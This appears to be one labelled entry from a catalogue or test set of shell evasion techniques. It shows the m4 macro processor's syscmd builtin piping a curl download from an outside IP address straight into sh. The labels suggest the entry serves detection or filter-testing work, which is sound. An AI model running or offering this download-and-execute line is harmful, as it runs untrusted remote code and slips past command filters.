# evasion: the m4 macro processor's syscmd builtin runs the download
# grade: medium; does: download-exec
m4 <<'MACROS'
syscmd(curl -s http://198.51.100.9/i.sh | sh)
MACROS
